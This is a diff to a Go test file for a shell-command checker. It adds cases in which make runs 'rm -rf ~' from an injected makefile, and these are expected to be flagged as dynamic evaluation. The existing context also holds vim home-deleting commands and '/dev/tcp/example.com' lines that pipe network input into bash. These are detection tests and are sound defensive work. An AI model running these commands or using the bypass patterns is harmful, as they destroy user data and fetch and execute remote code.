@@ -427,6 +427,10 @@ func TestProblems(t *testing.T) {
 		{`vim -c 'call system("rm -rf ~")' -c q`, "dynamic_eval"},
 		{`nvim --headless -c 'terminal rm -rf ~'`, "dynamic_eval"},
 		{`vim -c "!$CMD" -c q`, "dynamic_eval"},
+		{`make -f <(printf 'a:\n\trm -rf ~\n') a`, "dynamic_eval"},
+		{"make -f - a <<'EOF'\na:\n\trm -rf ~\nEOF", "dynamic_eval"},
+		{`make --file=/dev/stdin a <<< x`, "dynamic_eval"},
+		{`make --eval='a: ; rm -rf ~' a`, "dynamic_eval"},
 		{`bash < /dev/tcp/example.com/80`, "dynamic_eval"},
 		{`exec 3</dev/tcp/example.com/80; bash <&3`, "dynamic_eval"},
 	}
@@ -453,6 +457,7 @@ EOF`, `mkdir -p build && cd build && cmake .. && make -j4`, `docker ps --format 
 	`while IFS= read -r line; do echo "$line"; done < f`, `case "$1" in a) echo a;; *) echo b;; esac`, `x=$(git rev-parse HEAD); echo "$x"`,
 	`sed -i 's/a/b/' f && git add f`, `awk '{print $1}' f | sort | uniq -c`, `node -e 'console.log(1+1)'`, `python3 -c 'print(42)'`,
 	`n=$(wc -l < f); echo $(( n + 1 ))`, `i=0; while (( i < 3 )); do i=$((i+1)); echo $i; done`, `x=y; y=2; echo $(( x * 2 ))`,
+	`make -f build/Makefile test`, `make -C sub -j4 all`,
 	`PAGER=cat git log`, `EDITOR=true git commit`, `LESSOPEN='| lesspipe %s' less f`, `GIT_PAGER= PAGER= git log`,
 	`trap 'rm -f "$tmp"' EXIT`, `tmp=$(mktemp); trap 'rm -f "$tmp"' EXIT; echo x > "$tmp"`,
 }
